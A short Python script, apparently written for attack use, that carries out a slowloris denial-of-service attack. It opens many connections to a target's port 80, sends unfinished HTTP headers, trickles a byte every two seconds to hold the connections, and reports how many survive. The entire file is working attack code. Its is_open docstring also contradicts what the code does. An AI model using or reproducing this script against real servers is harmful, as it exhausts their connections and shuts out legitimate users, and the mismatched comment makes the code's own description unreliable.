"""Runs on the attacker, as `python3 -c`: connections that never finish a request, a byte now and then (slowloris).

Arguments: the address, how many, for how many seconds. Prints how many of them are held at the end.
"""

import sys
import time
from socket import create_connection, socket

PAUSE_S = 2


def main(address: str, many: str, seconds: str) -> None:
    held = []
    for _ in range(int(many)):
        one = create_connection((address, 80), timeout=5)
        one.sendall(b"GET / HTTP/1.1\r\nX-A: ")
        held.append(one)
    until = time.monotonic() + float(seconds)
    while time.monotonic() < until:
        time.sleep(PAUSE_S)
        held = [one for one in held if is_open(one)]
    print(len(held))


def is_open(one: socket) -> bool:
    """As the answer is never asked for, anything to read is the connection's end."""
    one.settimeout(0)
    try:
        one.sendall(b"a")
        return bool(one.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


main(*sys.argv[1:])
